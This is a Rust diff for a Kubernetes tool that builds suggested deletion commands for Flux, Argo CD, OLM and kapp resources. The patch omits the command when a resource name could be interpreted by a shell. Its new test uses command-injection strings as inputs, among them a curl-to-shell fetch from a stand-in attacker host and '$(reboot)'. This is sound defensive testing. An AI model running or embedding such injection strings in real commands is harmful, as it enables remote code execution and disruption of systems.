@@ -7,7 +7,7 @@ use super::{
     question::{Question, instance_of},
     records::release_of,
 };
-use crate::inventory::{Controller, Inventory, Object};
+use crate::inventory::{Controller, Inventory, Object, is_word};
 
 /// Namespaces of the cluster itself.
 pub const SYSTEM_NAMESPACES: [&str; 3] = ["kube-system", "kube-public", "kube-node-lease"];
@@ -119,8 +119,9 @@ pub struct Manager {
 }
 
 impl Manager {
-    fn new(by: String, command: String) -> Self {
-        Self { by, command: Some(command) }
+    /// Without the command where one of the names in it would be taken apart, or carried out, by a shell.
+    fn new(by: String, names: [&str; 3], command: String) -> Self {
+        Self { by, command: names.into_iter().all(is_word).then_some(command) }
     }
 
     /// By the marks that reconcilers leave on what they manage.
@@ -133,6 +134,7 @@ impl Manager {
             let namespace = label(&format!("{group}/namespace")).unwrap_or(&object.namespace);
             Self::new(
                 format!("Flux {what} {name}"),
+                [&name, namespace, what],
                 format!("flux delete {} {name} -n {namespace}", what.to_lowercase()),
             )
         };
@@ -142,6 +144,7 @@ impl Manager {
         {
             return Some(Self::new(
                 format!("Argo CD application {name}"),
+                [name; 3],
                 format!("argocd app delete {}", name.replacen('_', "/", 1)),
             ));
         }
@@ -155,12 +158,12 @@ impl Manager {
             let kind = label("olm.owner.kind").unwrap_or("ClusterServiceVersion");
             let namespace = label("olm.owner.namespace").unwrap_or(&object.namespace);
             let command = format!("kubectl delete {}/{name} -n {namespace}", kind.to_lowercase());
-            return Some(Self::new(format!("OLM {kind} {name}"), command));
+            return Some(Self::new(format!("OLM {kind} {name}"), [kind, name, namespace], command));
         }
         if let Some(app) = label("kapp.k14s.io/app") {
             let namespace = &object.namespace;
             let command = format!("kapp delete -a label:kapp.k14s.io/app={app} -n {namespace}");
-            return Some(Self::new(format!("kapp app {app}"), command));
+            return Some(Self::new(format!("kapp app {app}"), [app, app, namespace], command));
         }
         None
     }
@@ -205,6 +208,17 @@ mod tests {
         assert_eq!(manager.command.as_deref(), Some("argocd app delete shop"));
         annotate(&mut deployment, "shop:apps/Deployment:ns/other");
         assert_eq!(Manager::of(&deployment), None);
+    }
+
+    #[test]
+    fn a_name_that_a_shell_would_carry_out_is_in_no_command() {
+        let mut deployment = object("apps", "Deployment", "web");
+        for name in ["x; curl evil.example | sh #", "$(reboot)", "`reboot`", "--cascade", "x\nreboot", "two words"] {
+            let id = format!("{name}:apps/Deployment:ns/web");
+            deployment.annotations.insert("argocd.argoproj.io/tracking-id".into(), id);
+            let manager = Manager::of(&deployment).unwrap();
+            assert_eq!((manager.by, manager.command), (format!("Argo CD application {name}"), None));
+        }
     }
 
     #[test]
